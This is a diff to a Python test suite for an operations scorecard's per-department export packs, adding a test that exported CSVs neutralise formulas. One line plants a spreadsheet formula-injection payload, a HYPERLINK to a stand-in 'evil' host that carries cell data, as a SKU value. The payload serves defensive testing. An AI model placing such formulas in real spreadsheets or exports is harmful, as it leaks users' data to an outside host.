@@ -163,14 +163,25 @@ def test_scorecard_on_the_sample_shop(small_ops, default_norms) -> None:
 def test_export_packs_per_department(small_ops, default_norms, tmp_path: Path) -> None:
     card = score_norms(small_ops, default_norms, ("2025-11-01", "2025-11-28"))
     paths = card.export(tmp_path / "packs")
-    names = {p.name for p in paths}
-    assert "ops_warehouse_2025-11-28.xlsx" in names and "ops_logistics_2025-11-28_exceptions.csv" in names
-    assert len(paths) == 2 * len(default_norms.departments)
-    x = pd.read_excel(tmp_path / "packs" / "ops_warehouse_2025-11-28.xlsx", sheet_name=None)
-    assert set(x) == {"norms", "exceptions", "contributors"}
-    assert len(x["exceptions"]) == int(card.results.set_index("norm").loc["warehouse.ship_48h", "fails"])
-    raw = (tmp_path / "packs" / "ops_logistics_2025-11-28_exceptions.csv").read_bytes()
+    names = {str(p.relative_to(tmp_path / "packs")) for p in paths}
+    assert "ops_warehouse_2025-11-28/exceptions.xlsx" in names and "ops_logistics_2025-11-28/norms.csv" in names
+    assert len(paths) == 3 * 2 * len(default_norms.departments)  # norms, exceptions, contributors; xlsx + csv
+    pack = tmp_path / "packs" / "ops_warehouse_2025-11-28"
+    exceptions = pd.read_excel(pack / "exceptions.xlsx")
+    assert len(exceptions) == int(card.results.set_index("norm").loc["warehouse.ship_48h", "fails"])
+    assert set(pd.read_excel(pack / "contributors.xlsx")["norm"]) == {"warehouse.ship_48h"}
+    raw = (tmp_path / "packs" / "ops_logistics_2025-11-28" / "exceptions.csv").read_bytes()
     assert raw[:3] == b"\xef\xbb\xbf"  # UTF-8 with BOM: Excel shows Chinese
+
+
+def test_packs_never_run_text_from_the_data_as_a_formula(tmp_path: Path) -> None:
+    """A SKU typed as a formula stays text in the exceptions (the shared safe writer, opslib.reporting.exports)."""
+    d = _orders_data()
+    d.orders.loc[2, "sku"] = '=HYPERLINK("http://evil/?"&B2,"x")'
+    card = score_norms(d, _norms(), ("2024-01-01", "2024-01-31"))
+    card.export(tmp_path, formats=("csv",))
+    text = (tmp_path / "ops_warehouse_2024-01-31" / "exceptions.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text
 
 
 def test_pyproject_ships_the_default_norms() -> None:
